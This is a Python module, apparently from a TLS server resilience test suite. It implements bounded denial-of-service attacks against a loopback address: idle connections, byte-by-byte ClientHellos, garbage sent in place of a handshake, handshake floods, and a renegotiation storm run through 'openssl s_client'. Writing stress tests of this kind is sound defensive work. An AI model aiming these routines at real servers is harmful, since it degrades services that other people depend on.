"""Attacks before any call: connections without a byte, and TLS handshakes that are no good.

All are bounded in connections and time, and go to an address on loopback. Each returns counts of
what it did.
"""

import contextlib
import shutil
import socket
import ssl
import subprocess
import time
from collections import Counter
from collections.abc import Callable, Iterator

__all__ = ["TLS_ATTACKS"]

_CONNECTIONS = 400
_PAUSE_SECONDS = 0.05


def _is_open(until: float) -> bool:
    return time.monotonic() < until


def _connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host.strip("[]"), int(port)), timeout=1.0)


@contextlib.contextmanager
def _connections(address: str) -> Iterator[list[socket.socket]]:
    """Open as many connections as are let in; close them in the end."""
    opened: list[socket.socket] = []
    try:
        for _ in range(_CONNECTIONS):
            with contextlib.suppress(OSError):
                opened.append(_connect(address))
        yield opened
    finally:
        for one in opened:
            one.close()


def _context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context


def _hello() -> bytes:
    """Return the first message of a handshake."""
    out = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        _context().wrap_bio(ssl.MemoryBIO(), out).do_handshake()
    return out.read()


def says_nothing(address: str, until: float) -> Counter[str]:
    """Open many connections and send no byte."""
    with _connections(address) as opened:
        time.sleep(max(until - time.monotonic(), 0))
        return Counter(connections=len(opened))


def shakes_slowly(address: str, until: float) -> Counter[str]:
    """Send the first message of many handshakes byte by byte."""
    hello = _hello()
    done: Counter[str] = Counter()
    with _connections(address) as opened:
        done["connections"] = len(opened)
        for place in range(len(hello)):
            for one in opened:
                with contextlib.suppress(OSError):
                    one.send(hello[place : place + 1])
                    done["bytes"] += 1
            if not _is_open(until):
                break
            time.sleep(_PAUSE_SECONDS)
    return done


def shakes_wrongly(address: str, until: float) -> Counter[str]:
    """Send what is no handshake, on one connection after the other."""
    done: Counter[str] = Counter()
    while _is_open(until):
        with contextlib.suppress(OSError), _connect(address) as one:
            one.sendall(b"GET / HTTP/1.1\r\n\r\n" * 10)
            one.recv(1 << 16)
        done["connections"] += 1
    return done


def shakes_again_and_again(address: str, until: float) -> Counter[str]:
    """Do one whole handshake after the other, without a certificate and without a call."""
    context = _context()
    done: Counter[str] = Counter()
    while _is_open(until):
        done["connections"] += 1
        with contextlib.suppress(OSError), _connect(address) as one, context.wrap_socket(one):
            done["handshakes"] += 1
    return done


def renegotiates(address: str, until: float) -> Counter[str]:
    """Ask for a new handshake on an open connection of TLS 1.2, again and again."""
    done: Counter[str] = Counter()
    program = shutil.which("openssl")
    while program and _is_open(until):
        command = [program, "s_client", "-connect", address, "-tls1_2", "-quiet"]
        with contextlib.suppress(subprocess.TimeoutExpired):
            subprocess.run(command, input=b"R\n" * 1_000, capture_output=True, timeout=2)
        done["connections"] += 1
    return done


#: By name, as in reports.
TLS_ATTACKS: dict[str, Callable[[str, float], Counter[str]]] = {
    "connections without a byte": says_nothing,
    "slow handshakes": shakes_slowly,
    "no handshakes": shakes_wrongly,
    "handshake storm": shakes_again_and_again,
    "renegotiation storm": renegotiates,
}
